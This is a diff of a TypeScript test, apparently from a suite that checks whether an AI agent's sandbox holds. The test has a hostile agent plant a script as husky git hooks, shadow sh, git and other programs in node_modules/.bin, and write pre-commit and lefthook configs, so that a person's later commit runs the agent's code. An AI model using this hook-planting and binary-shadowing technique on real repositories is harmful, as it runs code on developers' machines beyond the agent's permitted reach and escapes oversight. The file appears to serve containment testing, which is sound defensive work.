@@ -5,14 +5,14 @@ import { need } from '../frame/attack.ts'
 import { commit, plant } from './_work.ts'
 
 const attack: Attack = {
-  tries: 'edits the hook that lives in the tree (core.hooksPath=.husky) and the configuration of pre-commit and lefthook, then the person commits in the worktree',
+  tries: 'edits the hooks that live in the tree (husky), plants programs where husky looks for them first (node_modules/.bin), edits the configuration of pre-commit and lefthook; then the person commits in the worktree',
   success: 'the agent\'s text of the hook runs',
   run: async (t) => {
     const evil = await t.agent()
     const program = await plant(t, evil)
     const log = join(t.project, '.git/hook-log')
     rmSync(log, { force: true })
-    await evil.sh(`for h in pre-commit commit-msg post-checkout; do cp evil.sh .husky/$h; done; mkdir -p .husky/_; cp evil.sh .husky/_/husky.sh
+    await evil.sh(`for h in pre-commit commit-msg post-checkout; do cp evil.sh .husky/$h; done; mkdir -p .husky/_; for h in h husky.sh pre-commit commit-msg; do cp evil.sh .husky/_/$h; done; mkdir -p node_modules/.bin; for p in sh git echo basename dirname; do cp evil.sh node_modules/.bin/$p; done
       printf 'repos:\\n- repo: local\\n  hooks: [{ id: x, name: x, language: system, entry: ${program} }]\\n' >.pre-commit-config.yaml; printf 'pre-commit:\\n  commands: { x: { run: ${program} } }\\n' >lefthook.yml`)
     await commit(evil, 'hooks in the tree')
     const pushed = await evil.push()
